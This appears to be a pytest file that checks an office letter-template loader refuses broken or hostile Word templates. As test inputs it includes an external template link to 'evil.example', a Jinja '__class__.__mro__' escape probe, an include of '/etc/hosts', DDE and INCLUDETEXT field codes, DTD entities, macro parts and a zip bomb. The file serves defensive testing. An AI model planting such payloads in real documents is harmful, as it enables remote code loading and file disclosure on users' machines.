"""The office's template: ours is what the code makes, a changed one is used, a hostile one is refused by name."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from docx.document import Document as DocxDocument
from docx.shared import Pt
from letter_paper_specimens import letter

from casework.letters.letter_docx import to_docx
from casework.letters.template import ORIGINAL, template_made
from casework.letters.template_read import Template, check_template, template_of, write_template
from casework.letters.wording import worded
from crawler.errors import UserMistake
from crawler.tables import Letters


def parts(docx: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(docx)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def packed(told: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in told.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def saved(document: DocxDocument) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def replaced(old: str, new: str) -> bytes:
    """Our template with other words in its body."""
    told = parts(ORIGINAL.read_bytes())
    body = told["word/document.xml"].decode()
    assert old in body
    return packed(told | {"word/document.xml": body.replace(old, new).encode()})


def with_part(name: str, content: bytes) -> bytes:
    return packed(parts(ORIGINAL.read_bytes()) | {name: content})


def said_in(name: str, old: str, new: str) -> bytes:
    told = parts(ORIGINAL.read_bytes())
    text = told[name].decode()
    assert old in text
    return packed(told | {name: text.replace(old, new, 1).encode()})


def field(words: str) -> str:
    return f"<w:instrText>{words}</w:instrText><w:t>{{{{ signer }}}}"


def test_the_template_that_lies_here_is_the_one_the_code_makes() -> None:
    assert parts(template_made()) == parts(ORIGINAL.read_bytes())


def test_the_exported_template_checks_and_is_not_overwritten(tmp_path: Path) -> None:
    path = tmp_path / "letter.docx"
    write_template(path)
    check_template(path)
    with pytest.raises(UserMistake, match="已经存在"):
        write_template(path)
    with pytest.raises(UserMistake, match="读不出来"):
        check_template(tmp_path / "none.docx")


def test_the_offices_own_look_is_used(tmp_path: Path) -> None:
    document = Document(str(ORIGINAL))
    document.styles["公文标题"].font.size = Pt(20)
    document.styles["公文正文"].element.rPr.get_or_add_rFonts().set(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}eastAsia", "华文仿宋"
    )
    document.save(str(tmp_path / "letter.docx"))
    settings = Letters(body_font="仿宋", title_font="小标宋", head_font="思源黑体")
    drawn = Document(io.BytesIO(to_docx(letter(), settings, template_of(tmp_path))))
    assert drawn.styles["公文标题"].font.size == Pt(20)
    styles = parts(to_docx(letter(), settings, template_of(tmp_path)))["word/styles.xml"].decode()
    for name in ("华文仿宋", "小标宋", "思源黑体", "仿宋"):
        assert f'"{name}"' in styles
    assert "仿宋_GB2312" not in styles
    assert "方正小标宋简体" not in styles


def test_fields_split_by_word_are_still_fields() -> None:
    split = replaced("{{ addressee }}", '{{ addr</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:t>essee }}')
    Template(name="own", docx=split).filled(worded(letter()))


DOCTYPE = '<!DOCTYPE a [<!ENTITY b "c">]>'
LOOP = "{%p for one in body %}"
EXTERNAL = (
    '<Relationship Id="rId900" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
WRONG: dict[str, tuple[Callable[[], bytes], str]] = {
    "no document": (lambda: b"not a zip", "不是完好的 Word 文档"),
    "empty": (lambda: b"", "不是完好的 Word 文档"),
    "a sheet": (lambda: packed({"xl/workbook.xml": b"<a/>"}), "不是完好的 Word 文档"),
    "unclosed": (lambda: replaced("{%p endfor %}", ""), "附近|endfor|Unexpected|Encountered"),
    "syntax": (lambda: replaced("{{ number }}", "{{ number + }}"), "模板"),
    "unknown": (lambda: replaced("{{ number }}", "{{ number }}{{ phone }}"), "phone"),
    "attribute": (lambda: replaced("{{ number }}", "{{ number.__class__.__mro__ }}"), "__class__|__mro__|不一致"),
    "call": (lambda: replaced("{{ number }}", "{{ number.upper() }}"), "Call"),
    "filter": (lambda: replaced("{{ number }}", "{{ number|upper }}"), "Filter"),
    "sum": (lambda: replaced("{{ number }}", "{{ number * 999999999 }}"), "Mul"),
    "set": (lambda: replaced("{{ number }}", "{% set a = 1 %}{{ number }}"), "Assign"),
    "include": (lambda: replaced("{{ number }}", "{% include '/etc/hosts' %}{{ number }}"), "Include"),
    "range": (lambda: replaced(LOOP, "{%p for one in range(99999) %}"), "Call"),
    "letters of a line": (lambda: replaced(LOOP, "{%p for one in title %}"), "body 或 annexes"),
    "loop in loop": (lambda: replaced("{{ one.text }}", "{% for a in body %}{{ one.text }}{% endfor %}"), "套着循环"),
    "no number": (lambda: replaced("{{ number }}", ""), "number"),
    "no body": (lambda: replaced("{{ one.text }}", ""), "不一致"),
    "no annexes": (lambda: replaced("{{ line }}", ""), "不一致"),
    "no marks": (lambda: packed({
        name: content.replace(b"{{ marks }}", b"") for name, content in parts(ORIGINAL.read_bytes()).items()
    }), "marks"),
    "marks on some pages": (lambda: said_in("word/header2.xml", "{{ marks }}", "x"), "页眉应为"),
    "more words": (lambda: replaced("{{ signer }}", "{{ signer }}（盖章）"), "模板只定版式"),
    "other order": (lambda: replaced("{{ signer }}", "{{ day }}"), "signer|不一致"),
    "hidden": (lambda: replaced("<w:t>{{ signer }}", "<w:rPr><w:vanish/></w:rPr><w:t>{{ signer }}"), "隐藏文字"),
    "style gone": (lambda: said_in("word/styles.xml", 'w:val="抄送"', 'w:val="抄 送"'), "缺少样式：抄送"),
    "macro": (lambda: with_part("word/vbaProject.bin", b"x"), "宏"),
    "macro type": (lambda: said_in("[Content_Types].xml", "document.main+xml", "document.macroEnabled.main+xml"), "宏"),
    "object": (lambda: with_part("word/embeddings/oleObject1.bin", b"x"), "嵌入的对象"),
    "external": (lambda: said_in("word/_rels/document.xml.rels", "</Relationships>", EXTERNAL), "外部链接"),
    "entities": (lambda: said_in("word/document.xml", "<w:document", f"{DOCTYPE}<w:document"), "DTD"),
    "field": (lambda: replaced("<w:t>{{ signer }}", field("INCLUDETEXT a")), "域"),
    "field code": (lambda: replaced("<w:t>{{ signer }}", field("PAGE DDE cmd")), "域"),
    "bomb": (lambda: with_part("word/media/a.png", b"\0" * 21_000_000), "解开后过大"),
    "many": (lambda: packed(parts(ORIGINAL.read_bytes()) | {f"a{at}.xml": b"<a/>" for at in range(500)}), "解开后过大"),
    "torn": (lambda: packed(parts(ORIGINAL.read_bytes()) | {"word/document.xml": b"<w:document"}), "完好"),
}  # fmt: skip


@pytest.mark.parametrize("name", WRONG)
def test_a_broken_or_hostile_template_is_refused_with_its_place(tmp_path: Path, name: str) -> None:
    made, words = WRONG[name]
    (tmp_path / "letter.docx").write_bytes(made())
    with pytest.raises(UserMistake, match=words) as caught:
        to_docx(letter(), Letters(), template_of(tmp_path))
    assert str(tmp_path / "letter.docx") in str(caught.value)
    with pytest.raises(UserMistake):
        check_template(tmp_path / "letter.docx")


def test_a_damaged_file_is_a_mistake_and_never_a_trace() -> None:
    chance, whole = random.Random(6), ORIGINAL.read_bytes()
    refused = 0
    for _ in range(60):
        docx = bytearray(whole)
        for _ in range(chance.randint(1, 30)):
            docx[chance.randrange(len(docx))] = chance.randrange(256)
        try:
            Template(name="own", docx=bytes(docx)).filled(worded(letter()))
        except UserMistake:
            refused += 1
    assert refused > 30


def test_a_cut_file_is_a_mistake() -> None:
    whole = ORIGINAL.read_bytes()
    for length in range(0, len(whole), len(whole) // 17):
        with pytest.raises(UserMistake):
            Template(name="own", docx=whole[:length]).filled(worded(letter()))
